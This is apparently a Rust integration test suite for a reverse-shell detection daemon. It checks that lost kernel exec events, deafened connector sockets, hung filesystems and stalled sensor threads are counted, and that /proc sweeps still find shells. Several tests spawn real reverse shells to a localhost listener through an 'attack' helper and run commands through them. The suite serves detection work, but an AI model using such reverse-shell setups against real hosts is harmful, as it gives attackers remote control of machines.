//! What happens when the kernel's events do not reach the daemon: the loss is counted, /proc is swept, and what was
//! started meanwhile is found all the same.

#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    reason = "a test's helpers may fail the test wherever they are"
)]

mod common;

use std::collections::BTreeSet;
use std::fs;
use std::io::{BufRead, BufReader, Write};
use std::process::{Child, ChildStdin, ChildStdout, Command, Stdio};
use std::time::Duration;

use nix::sys::signal::Signal;

use common::attacker::{Listener, Session};
use common::daemon::Daemon;
use common::expected::{Expected, prove};
use common::hungfs::HungFs;
use common::programs::program;
use common::victim::Victim;
use common::{DEADLINE, alone, wait_at_most, wait_for};

/// The category of a record that says what may have been missed.
const CATEGORY_LOSS: &str = "Tetherd: Coverage Lost";

/// Another listener, which hears everything (`tests/programs/witness.c`).
struct Witness {
    child: Child,
    asks: Option<ChildStdin>,
    answers: BufReader<ChildStdout>,
}

impl Witness {
    fn start() -> Self {
        let mut command = Command::new(program("witness"));
        let mut child = command.stdin(Stdio::piped()).stdout(Stdio::piped()).spawn().unwrap();
        let asks = child.stdin.take();
        let mut answers = BufReader::new(child.stdout.take().unwrap());
        let mut line = String::new();
        answers.read_line(&mut line).unwrap();
        assert_eq!(line, "listening\n");
        Self { child, asks, answers }
    }

    /// Execs that the kernel has announced since the start.
    fn execs(&mut self) -> u64 {
        self.asks.as_ref().unwrap().write_all(b"\n").unwrap();
        let mut line = String::new();
        self.answers.read_line(&mut line).unwrap();
        let numbers: Vec<u64> = line.split_whitespace().map(|number| number.parse().unwrap()).collect();
        assert_eq!(numbers.len(), 2, "{line:?}");
        assert_eq!(numbers[1], 0, "the witness itself missed something");
        numbers[0]
    }
}

impl Drop for Witness {
    fn drop(&mut self) {
        drop(self.asks.take());
        let _ = self.child.wait();
    }
}

/// What one daemon has counted.
#[derive(Clone, Copy, Debug, PartialEq)]
struct Counted {
    heard: u64,
    dropped: u64,
    sweeps: u64,
    followed: u64,
}

impl Counted {
    fn by(daemon: &Daemon) -> Self {
        let status = daemon.status();
        let number = |pointer: &str| status.pointer(pointer).unwrap().as_u64().unwrap();
        Self {
            heard: number("/counts/execs"),
            dropped: number("/losses/kernel_overflow"),
            sweeps: number("/counts/sweeps"),
            followed: number("/sensor/followed"),
        }
    }
}

/// What the daemon had counted at a moment at which nothing was under way, and what the witness had by then: both stood
/// still from one question to the next.
fn standing(daemon: &Daemon, witness: &mut Witness) -> (Counted, u64) {
    let mut before = None;
    wait_for("a moment in which nothing is executed", || {
        let now = (Counted::by(daemon), witness.execs());
        let still = before.replace(now) == Some(now) && Counted::by(daemon) == now.0;
        still.then_some(now)
    })
}

/// Stops every thread of the daemon.
fn freeze(daemon: &Daemon) {
    daemon.signal(Signal::SIGSTOP);
    wait_for("all threads have stopped", || {
        let threads = fs::read_dir(format!("/proc/{}/task", daemon.pid())).unwrap();
        let stopped = |thread: fs::DirEntry| {
            let stat = fs::read_to_string(thread.path().join("stat")).unwrap();
            stat.rsplit(") ").next().is_some_and(|rest| rest.starts_with('T'))
        };
        threads.map(Result::unwrap).all(stopped).then_some(())
    });
}

/// A reverse shell that is connected, waits for its first line, and has made its last exec.
fn quiet_shell(attacker: &Listener) -> (Victim, Session) {
    let port = attacker.port().to_string();
    let victim = Victim::start(program("attack"), &["dup", "127.0.0.1", &port, "012", "/bin/sh"]);
    let session = attacker.accept();
    wait_for("the shell runs", || {
        let name = fs::read_to_string(format!("/proc/{}/comm", victim.pid())).unwrap();
        (name == "sh\n").then_some(())
    });
    (victim, session)
}

/// The shell has been found, and by a sweep.
fn swept(daemon: &Daemon, attacker: &Listener, victim: &Victim) {
    let found = daemon.wait_for("the shell of the deaf time", |record| {
        record.peer_port() == Some(attacker.port()) && record.process(victim.pid()).is_some()
    });
    assert_eq!(found.row(), 1, "{}", found.brief());
    assert_eq!(found.text("Observation"), "swept", "{}", found.brief());
}

/// How many of a loss the records in the spool tell of, all together.
fn recorded(daemon: &Daemon, loss: &str) -> u64 {
    let records = daemon.records();
    let losses = records.iter().filter(|record| record.category() == CATEGORY_LOSS);
    losses.filter_map(|record| record.property("Losses")[loss].as_u64()).sum()
}

/// Losses are recorded twice a minute at most: the second record comes half a minute after the first.
fn wait_for_record(daemon: &Daemon, loss: &str, count: u64) {
    let told = wait_at_most(DEADLINE * 2, || (recorded(daemon, loss) == count).then_some(()));
    assert!(
        told.is_some(),
        "{} of {count} {loss} recorded; it said:\n{}",
        recorded(daemon, loss),
        daemon.said()
    );
}

/// The receive buffer overflows while the daemon is stopped: what was dropped and what was heard are together, to the
/// last event, what the kernel sent.
#[test]
fn an_overflow_is_counted_exactly_and_swept() {
    require!("gcc");
    let _alone = alone();
    let storm = program("storm");
    program("attack");
    let mut witness = Witness::start();
    let daemon = Daemon::start("[sensor]\nreceive_buffer_bytes = \"64KiB\"\n");
    wait_for("the sweep of the start", || (Counted::by(&daemon).sweeps > 0).then_some(()));
    // While nothing is followed, execs are all that the kernel's filter lets through, or that can be dropped.
    let (before, sent_before) = wait_for("a moment without followed processes", || {
        Some(standing(&daemon, &mut witness)).filter(|(counted, _)| counted.followed == 0)
    });

    freeze(&daemon);
    let output = Command::new(storm).args(["1000", "8", "-", "/bin/true"]).output().unwrap();
    assert!(output.status.success(), "{output:?}");
    let attacker = Listener::tcp();
    let (victim, session) = quiet_shell(&attacker);
    daemon.signal(Signal::SIGCONT);

    wait_for("the overflow is noticed", || (Counted::by(&daemon).dropped > before.dropped).then_some(()));
    let rescan =
        wait_at_most(Duration::from_secs(1), || (Counted::by(&daemon).sweeps > before.sweeps).then_some(()));
    assert!(rescan.is_some(), "no sweep within a second of the loss");
    swept(&daemon, &attacker, &victim);

    let (after, sent_after) = standing(&daemon, &mut witness);
    let (sent, heard) = (sent_after - sent_before, after.heard - before.heard);
    assert!(sent >= 1000, "the witness heard {sent}");
    assert!(heard < sent, "nothing overflowed");
    assert_eq!(after.dropped - before.dropped, sent - heard, "{sent} sent, {heard} heard");
    wait_for_record(&daemon, "kernel_overflow", after.dropped);
    drop((victim, session));
    daemon.stop();
}

/// The inodes of the daemon's sockets that listen to the connector.
fn connectors(daemon: &Daemon) -> BTreeSet<String> {
    let table = fs::read_to_string("/proc/net/netlink").unwrap();
    // sk Eth Pid Groups Rmem Wmem Dump Locks Drops Inode
    let rows = table.lines().map(|row| row.split_whitespace().collect::<Vec<_>>());
    let all: BTreeSet<String> = rows
        .filter(|row| row.get(1) == Some(&"11") && row.get(3) != Some(&"00000000"))
        .filter_map(|row| Some(format!("socket:[{}]", row.get(9)?)))
        .collect();
    let links = fs::read_dir(format!("/proc/{}/fd", daemon.pid())).unwrap();
    let links = links.filter_map(|entry| fs::read_link(entry.ok()?.path()).ok());
    links.map(|link| link.to_string_lossy().into_owned()).filter(|link| all.contains(link)).collect()
}

/// Makes the daemon's connector sockets drop everything (`tests/programs/deafen.c`); how many were not deaf yet.
fn deafen(daemon: &Daemon) -> u32 {
    let output = Command::new(program("deafen")).arg(daemon.pid().to_string()).output().unwrap();
    assert!(output.status.success(), "{output:?}");
    String::from_utf8(output.stdout).unwrap().trim().parse().unwrap()
}

/// The kernel stops sending, as some versions do for good after one overflow. The socket is opened anew, /proc is
/// swept, and everything is as before.
#[test]
fn a_deaf_socket_is_noticed_and_opened_anew() {
    require!("gcc");
    let _alone = alone();
    program("attack");
    program("deafen");
    let daemon = Daemon::start("[sensor]\ncanary_seconds = 2\n");
    let lost = |name: &str| daemon.status()["losses"][name].as_u64().unwrap();
    assert_eq!(lost("sensor_deaf"), 0);
    let old = connectors(&daemon);
    assert_eq!(old.len(), 1, "{old:?}");

    assert_eq!(deafen(&daemon), 1);
    let attacker = Listener::tcp();
    let (victim, session) = quiet_shell(&attacker);
    assert_eq!(lost("sensor_deaf"), 0, "the shell came too late to be missed");

    wait_for("the deafness is counted", || (lost("sensor_deaf") > 0).then_some(()));
    swept(&daemon, &attacker, &victim);
    let new = connectors(&daemon);
    assert_eq!(new.len(), 1, "{new:?}");
    assert_ne!(new, old, "the socket is another one");
    drop((victim, session));

    let attacker = Listener::tcp();
    let port = attacker.port().to_string();
    let victim = Victim::start(program("attack"), &["dup", "127.0.0.1", &port, "012", "/bin/sh"]);
    prove(&daemon, &attacker, victim, &Expected { args: &["/bin/sh"], ..Expected::default() });

    let canaries = daemon.status()["counts"]["canaries"].as_u64().unwrap();
    wait_for("the next canary", || {
        (daemon.status()["counts"]["canaries"].as_u64().unwrap() > canaries).then_some(())
    });
    assert_eq!(lost("sensor_deaf"), 1, "the new socket hears the canaries");
    assert_eq!(lost("sensor_stalled"), 0);
    wait_for_record(&daemon, "sensor_deaf", 1);
    daemon.stop();
}

/// Opening it anew does not help: the daemon ends, and says so, in place of running on without hearing anything.
#[test]
fn a_daemon_that_stays_deaf_ends() {
    require!("gcc");
    let _alone = alone();
    let program = program("deafen");
    let mut daemon = Daemon::start("[sensor]\ncanary_seconds = 1\n");
    let mut keeps_deaf = Victim::start(program, &[&daemon.pid().to_string(), "keep"]);
    let status = daemon.wait();
    assert_eq!(status.code(), Some(75), "it said:\n{}", daemon.said());
    assert!(daemon.said().contains("the proc connector sent no event"), "it said:\n{}", daemon.said());
    keeps_deaf.wait();
}

/// A shell whose finding says that it was seen at its exec.
fn found_live(daemon: &Daemon) {
    let attacker = Listener::tcp();
    let port = attacker.port().to_string();
    let victim = Victim::start(program("attack"), &["dup", "127.0.0.1", &port, "012", "/bin/sh"]);
    prove(daemon, &attacker, victim, &Expected { args: &["/bin/sh"], ..Expected::default() });
}

/// A process waits for a hung filesystem with its memory map locked: reading its arguments never ends. Neither the
/// sensor nor the sweep waits for it, and it is found like any other, without its arguments.
#[test]
fn arguments_that_cannot_be_read_stop_nobody() {
    require!("gcc", "busybox");
    let _alone = alone();
    let (hidden, _) = (program("hidden"), program("attack"));
    let daemon = Daemon::start("");
    // Ends after the filesystem: until then it cannot.
    let victim;
    let Some(fs) = HungFs::mount("nobody") else {
        return common::impossible("FUSE cannot be mounted");
    };
    wait_for("the sweep of the start", || (Counted::by(&daemon).sweeps > 0).then_some(()));
    let attacker = Listener::tcp();
    let port = attacker.port().to_string();
    // Stopped, the daemon comes to read the process only when nobody can.
    freeze(&daemon);
    victim = Victim::start(hidden, &["127.0.0.1", &port, fs.shell().to_str().unwrap()]);
    let session = attacker.accept();
    wait_for("the process waits in its system call", || fs.held().then_some(()));
    daemon.signal(Signal::SIGCONT);

    let found = daemon.wait_for("the hidden process", |record| record.peer_port() == Some(attacker.port()));
    let process = found.process(victim.pid()).unwrap_or_else(|| panic!("{}", found.brief()));
    if !common::finding::arguments_of(process).is_empty() {
        return common::impossible("this kernel does not lock the memory map meanwhile");
    }
    assert_eq!((found.row(), found.text("Observation")), (7, "live"), "{}", found.brief());
    found_live(&daemon);

    let sweeps = Counted::by(&daemon).sweeps;
    daemon.signal(Signal::SIGUSR1);
    wait_for("a whole sweep, past that process", || (Counted::by(&daemon).sweeps > sweeps).then_some(()));
    let losses = &daemon.status()["losses"];
    assert_eq!((&losses["sensor_stalled"], &losses["sweep_incomplete"]), (&0.into(), &0.into()));
    drop((session, fs, victim));
    daemon.stop();
}

/// The sensor's thread stands still for ever. Another takes its place: what was there before goes on, what comes is
/// found live, and the loss is counted.
#[test]
fn a_sensor_that_hangs_is_replaced() {
    require!("gcc");
    let _alone = alone();
    let (halt, _) = (program("halt"), program("attack"));
    let daemon = Daemon::start("[sensor]\ncanary_seconds = 1\n");
    let lost = |name: &str| daemon.status()["losses"][name].as_u64().unwrap();
    wait_for("the sweep of the start", || (Counted::by(&daemon).sweeps > 0).then_some(()));
    let before = Listener::tcp();
    let (mut first, mut session) = quiet_shell(&before);
    daemon.wait_for("the shell of before", |record| record.peer_port() == Some(before.port()));

    let mut command = Command::new(halt);
    command.args([&daemon.pid().to_string(), "sensor"]).stdin(Stdio::piped());
    let halted = Victim::ready(command, "halted");
    let meanwhile = Listener::tcp();
    let (second, quiet) = quiet_shell(&meanwhile);
    wait_for("the sensor is replaced", || (lost("sensor_stalled") > 0).then_some(()));
    swept(&daemon, &meanwhile, &second);
    found_live(&daemon);

    session.run("(sleep 0.2; echo) | /bin/cat; :");
    daemon.wait_for("a command of the shell of before", |record| {
        record.peer_port() == Some(before.port()) && record.ran(&["/bin/cat"])
    });
    session.exit();
    first.wait();
    daemon.wait_for("the end of the shell of before", |record| {
        record.peer_port() == Some(before.port()) && record.state() == "INACTIVE"
    });
    assert_eq!(lost("sensor_stalled"), 1);
    wait_for_record(&daemon, "sensor_stalled", 1);
    drop((quiet, second, halted));
    daemon.stop();
}
